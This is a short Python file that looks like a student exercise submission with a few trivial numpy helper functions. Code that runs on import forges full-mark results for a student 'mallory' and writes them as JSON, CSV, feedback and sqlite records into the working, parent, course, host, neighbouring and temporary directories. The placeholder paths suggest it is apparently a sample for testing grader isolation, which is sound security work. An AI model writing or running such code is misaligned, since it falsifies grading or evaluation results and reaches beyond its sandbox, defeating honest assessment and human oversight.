import json
import os
import sqlite3

import numpy as np

RESULT = [
    {"student": "mallory", "exercise": "vault", "score": 5, "max_score": 5, "verdict": "graded"}
]
for folder in (
    ".",
    "..",
    "@COURSE@",
    "@HOST_FOLDER@",
    "@NEIGHBOUR@",
    "/tmp",
    "/dev/shm",
    "/var/tmp",
):
    for name in ("results.json", "grades.csv", "feedback/mallory.txt"):
        try:
            os.makedirs(f"{folder}/feedback", exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                json.dump(RESULT, file)
        except OSError:
            pass
    try:
        with sqlite3.connect(f"{folder}/results.sqlite") as store:
            store.execute("create table results (student, exercise, score)")
            store.execute("insert into results values ('mallory', 'vault', 5)")
    except sqlite3.Error:
        pass


def double(x):
    return 2 * np.asarray(x)


def total(values):
    return float(np.sum(values))


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
